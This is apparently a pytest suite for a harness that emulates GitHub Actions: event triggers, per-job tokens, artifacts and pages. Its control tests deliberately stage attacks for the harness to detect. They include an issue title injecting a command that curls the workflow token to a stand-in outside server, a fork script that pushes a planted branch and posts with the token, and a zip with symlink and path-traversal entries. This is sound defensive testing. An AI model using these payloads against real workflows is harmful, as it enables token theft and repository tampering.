"""The harness itself: it runs workflows as GitHub does where that matters, and notices when something escapes."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from acting import events, rewriting, runner, triggers
from acting.clients import call
from acting.hub import Hub
from acting.runner import Run
from acting.state import JSON

SAMPLES = Path(__file__).parent / "acting" / "samples"


def add(hub: Hub, *samples: str) -> str:
    """Commit sample workflows to main, in the place of the project's own; return the commit before."""
    before = hub.tip()
    gone: dict[str, str | bytes | None] = dict.fromkeys(hub.files("main", ".github/workflows/"))
    hub.commit(
        {
            **gone,
            **{f".github/workflows/{name}.yml": (SAMPLES / f"{name}.yml").read_text() for name in samples},
        }
    )
    return before


def pushed(hub: Hub, sample: str) -> Run:
    """Run a sample by a push."""
    return hub.on_push(add(hub, sample))[f"{sample}.yml"]


def test_a_whole_workflow_runs_as_on_github(hub: Hub) -> None:
    run = pushed(hub, "whole")
    assert run.jobs == {"one": "success", "two": "failure", "three": "skipped", "four": "success"}, run.log
    assert run.conclusion == "failure"
    assert "got top, pipefail" in run.log
    assert "commits: 1, dirty: 0" in run.log
    assert run.summaries == {"one": "# A summary\n"}
    errors = [one for one in run.annotations if one.level == "error" and one.job == "one"]
    assert [one.line for one in errors] == list(range(1, 11))
    assert errors[0].file == "data/a.csv"
    assert errors[0].message == "first\nsecond"
    assert run.dropped == 2
    assert [one.title for one in run.annotations if one.level == "warning"] == ["Look"]
    too_large = [one.message for one in run.annotations if one.job == "four"]
    assert too_large == [
        "$GITHUB_STEP_SUMMARY upload aborted, supports content up to a size of 1024k, got 1171k"
    ]
    assert hub.leaks(run) == []
    names = {job["name"]: job["conclusion"] for job in hub.repository.jobs[run.id]}
    assert names == run.jobs


def test_each_job_has_a_token_of_its_own(hub: Hub) -> None:
    add(hub, "tokens")
    number = hub.pull({"x.txt": "x"})
    run = hub.on_pull_request(number)["tokens.yml"]
    assert set(run.jobs.values()) == {"success"}, run.log
    assert [one["body"] for one in hub.comments(number)] == ["from writer"]
    assert hub.comments(number)[0]["user"]["login"] == "github-actions[bot]"
    answers = {(one.token, one.method): one.status for one in hub.requests(host="api")}
    assert answers == {
        ("tokens.yml/nothing", "POST"): 403,
        ("tokens.yml/nothing", "GET"): 403,
        ("tokens.yml/reader", "POST"): 403,
        ("tokens.yml/reader", "GET"): 200,
        ("tokens.yml/writer", "POST"): 201,
        ("tokens.yml/writer", "GET"): 200,
    }
    assert "Resource not accessible by integration" in run.log
    assert hub.leaks(run) == []


def test_a_fork_only_reads_whatever_the_workflow_asks_for(hub: Hub) -> None:
    add(hub, "tokens")
    number = hub.pull({"x.txt": "x"}, fork="mallory")
    run = hub.on_pull_request(number)["tokens.yml"]
    assert hub.comments(number) == []
    assert [
        (one.token, one.status) for one in hub.requests("GET", "/pulls/") if one.token.endswith("writer")
    ] == [("tokens.yml/writer", 200)]
    assert hub.repository.runs[run.id]["pull_requests"] == []
    assert hub.repository.runs[run.id]["head_sha"] == hub.repository.pulls[number]["head"]["sha"]
    assert run.event.sha == hub.tip(f"refs/pull/{number}/merge")


def test_the_merge_commit_follows_both_sides(hub: Hub) -> None:
    number = hub.pull({"x.txt": "x"})
    first = hub.tip(f"refs/pull/{number}/merge")
    hub.commit({"y.txt": "y"})
    second = hub.tip(f"refs/pull/{number}/merge")
    assert hub.file("y.txt", second) == b"y"
    assert hub.file("x.txt", second) == b"x"
    hub.update(number, {"x.txt": "z"})
    assert hub.file("x.txt", f"refs/pull/{number}/merge") == b"z"
    assert len({first, second, hub.tip(f"refs/pull/{number}/merge")}) == 3
    hub.commit({"x.txt": "conflict"})
    assert hub.repository.pulls[number]["mergeable"] is False
    assert hub.on_pull_request(number, "synchronize") == {}


PUSH: JSON = {"ref": "refs/heads/main"}
TAG: JSON = {"ref": "refs/tags/v1"}
PULL: JSON = {"action": "opened", "pull_request": {"base": {"ref": "main"}}}
DONE: JSON = {"action": "completed", "workflow_run": {"name": "a", "head_branch": "x"}}


@pytest.mark.parametrize(
    ("on", "event", "payload", "paths", "expected"),
    [
        ("push", "push", PUSH, ["a"], True),
        (["push"], "pull_request", PULL, ["a"], False),
        ({"push": {"branches": ["main"]}}, "push", PUSH, ["a"], True),
        ({"push": {"branches": ["release/**"]}}, "push", {"ref": "refs/heads/release/1/2"}, ["a"], True),
        ({"push": {"branches": ["release/*"]}}, "push", {"ref": "refs/heads/release/1/2"}, ["a"], False),
        ({"push": {"branches": ["**", "!main"]}}, "push", PUSH, ["a"], False),
        ({"push": {"branches-ignore": ["main"]}}, "push", PUSH, ["a"], False),
        ({"push": {"branches": ["main"]}}, "push", TAG, ["a"], False),
        ({"push": {"tags": ["v*"]}}, "push", TAG, ["a"], True),
        ({"push": {"tags": ["v*"]}}, "push", PUSH, ["a"], False),
        ({"push": {"paths-ignore": ["results/**"]}}, "push", PUSH, ["results/a", "results/b/c"], False),
        ({"push": {"paths-ignore": ["results/**"]}}, "push", PUSH, ["results/a", "data/b"], True),
        ({"push": {"paths": ["data/**"]}}, "push", PUSH, ["results/a"], False),
        ({"push": {"paths": ["data/**", "!data/x"]}}, "push", PUSH, ["data/x"], False),
        ({"pull_request": None}, "pull_request", PULL, ["a"], True),
        ({"pull_request": None}, "pull_request", {**PULL, "action": "labeled"}, ["a"], False),
        (
            {"pull_request": {"types": ["labeled"]}},
            "pull_request",
            {**PULL, "action": "labeled"},
            ["a"],
            True,
        ),
        ({"pull_request": {"branches": ["dev"]}}, "pull_request", PULL, ["a"], False),
        ({"pull_request": {"paths": ["**.csv"]}}, "pull_request", PULL, ["data/a.csv"], True),
        ({"issues": {"types": ["labeled"]}}, "issues", {"action": "opened"}, [], False),
        ({"issues": {"types": ["labeled"]}}, "issues", {"action": "labeled"}, [], True),
        ({"workflow_run": {"workflows": ["a"], "types": ["completed"]}}, "workflow_run", DONE, [], True),
        ({"workflow_run": {"workflows": ["b"]}}, "workflow_run", DONE, [], False),
        ({"workflow_run": {"workflows": ["a"], "types": ["requested"]}}, "workflow_run", DONE, [], False),
        ({"workflow_run": {"workflows": ["a"], "branches": ["main"]}}, "workflow_run", DONE, [], False),
    ],
)
def test_events_start_what_they_start_on_github(
    on: object, event: str, payload: JSON, paths: list[str], expected: bool
) -> None:
    assert triggers.fires({"on": on}, event, payload, lambda: paths) is expected


def test_yaml_is_read_as_github_reads_it() -> None:
    assert rewriting.load("on: [push]\nx: yes\ny: 2026-01-01\nz: true\n") == {
        "on": ["push"],
        "x": "yes",
        "y": "2026-01-01",
        "z": True,
    }


def test_artifacts_travel_between_jobs_and_runs(hub: Hub) -> None:
    run = pushed(hub, "artifacts")
    assert run.jobs == {"give": "success", "take": "success"}, run.log
    expected = {"folder": {"a.txt", "deep/b.txt"}, "file": {"b.txt"}, "globs": {"a.txt", "deep/b.txt"}}
    zips = {name: zipfile.ZipFile(io.BytesIO(data)) for name, data in run.artifacts.items()}
    assert {name: set(archive.namelist()) for name, archive in zips.items()} == expected
    listing = "all/file/b.txt all/folder/a.txt all/folder/deep/b.txt all/globs/a.txt all/globs/deep/b.txt"
    assert f"{listing} got/a.txt got/deep/b.txt through/b.txt" in run.log
    (blob,) = hub.requests(host="blob")
    assert (blob.token, blob.status) == ("", 200)
    assert hub.leaks(run) == []


def test_a_link_in_an_artifact_is_unpacked_as_one_and_a_path_that_leaves_is_refused(hub: Hub) -> None:
    add(hub, "artifacts")
    event = events.dispatch(hub.world, hub.repository, {})
    hostile = io.BytesIO()
    with zipfile.ZipFile(hostile, "w") as archive:
        entry = zipfile.ZipInfo("link")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/hostname")
    for data, code in ((hostile.getvalue(), 0), (hostile.getvalue().replace(b"link", b"../x"), 1)):
        run = hub.finished(
            hub.pull({"x": str(code)}, branch=f"b{code}"), {"a": data}, workflow="artifacts.yml"
        )
        environ = {"NAME": "a", "RUN": str(run.id), "TOKEN": hub.token(actions="read")}
        environ |= {"MERGE": "false", "REPOSITORY": hub.repository.name}
        environ |= runner.environment(hub.world, hub.repository, event, run.id, 1)
        environ["FOLDER"] = str(hub.world.root / f"unpacked-{code}")
        script = runner.STUBS / "download-artifact" / "download.py"
        done = subprocess.run([sys.executable, "-I", script], env=environ, capture_output=True, check=False)
        assert done.returncode == code, done.stderr
    assert (hub.world.root / "unpacked-0" / "link").is_symlink()
    assert not (hub.world.root / "x").exists()


def test_a_repeated_run_adds_an_attempt(hub: Hub) -> None:
    first = pushed(hub, "artifacts")
    moved = hub.commit({"later.txt": "x"})
    second = hub.rerun(first)
    assert (second.id, second.attempt, second.event.sha) == (first.id, 2, first.event.sha)
    assert second.event.sha != moved
    listed = json.loads(
        call(hub, hub.token(actions="read"), "GET", f"/actions/runs/{first.id}/artifacts?name=file")[1]
    )
    assert listed["total_count"] == 2


def test_a_site_is_published(hub: Hub) -> None:
    run = pushed(hub, "pages")
    assert run.conclusion == "success", run.log
    with tarfile.open(fileobj=io.BytesIO(hub.repository.pages[0])) as archive:
        assert "./index.html" in archive.getnames()


# Controls: what must never happen is made to happen, and the harness must see it.


@pytest.mark.parametrize("sample", ["unsafe-title", "safe-title"])
def test_control_a_command_in_a_title_runs_only_where_it_is_pasted_into_a_script(
    hub: Hub, sample: str
) -> None:
    add(hub, sample)
    spell = f'$(touch {hub.canary}; echo "$TOKEN" | base64; curl -s {hub.elsewhere}/$TOKEN)'
    number = hub.issue(f'nice" {spell} "thing', "")
    run = hub.on_issue(number, "opened", by="mallory")[f"{sample}.yml"]
    assert run.conclusion == "success"
    leaks = hub.leaks(run)
    if sample == "safe-title":
        assert leaks == []
        assert spell in run.log
        return
    token = run.tokens["greet"]
    assert "a planted command ran: it made the canary file" in leaks
    assert f"a stranger's server was asked for /evil/{token}" in leaks
    assert "unsafe-title.yml: the token of unsafe-title.yml/greet is in the log" in leaks


def test_control_a_forks_code_with_a_token_that_writes_is_seen(hub: Hub) -> None:
    add(hub, "unsafe-target")
    curl = """curl -s -H "Authorization: Bearer $GITHUB_TOKEN" -d '{"body": "hi"}'"""
    url = '"$GITHUB_API_URL/repos/acme/demo/issues/1/comments"'
    script = f"touch {hub.canary}\ngit push origin HEAD:refs/heads/planted\n{curl} {url}\n"
    number = hub.pull({"check.sh": script}, fork="mallory")
    run = hub.on_pull_request(number)["unsafe-target.yml"]
    leaks = hub.leaks(run)
    assert "a planted command ran: it made the canary file" in leaks
    assert any(sentence.startswith("unsafe-target.yml: a token lay on disk in") for sentence in leaks)
    assert hub.tip("planted"), run.log
    written = hub.requests("POST", "/issues/1/comments")
    assert [(one.token, one.status) for one in written] == [("unsafe-target.yml/check", 201)]


def test_control_a_client_that_carries_its_token_along_is_seen(hub: Hub) -> None:
    run = pushed(hub, "artifacts")
    token = hub.token(actions="read")
    identity = max(hub.repository.artifacts)
    status, data = call(hub, token, "GET", f"/actions/artifacts/{identity}/zip", None, "--location")
    assert (status, data[:2]) == (200, b"PK")
    assert hub.leaks(run) == []
    call(hub, token, "GET", f"/actions/artifacts/{identity}/zip", None, "--location-trusted")
    assert hub.leaks(run) == ["the download host saw the token of test"]
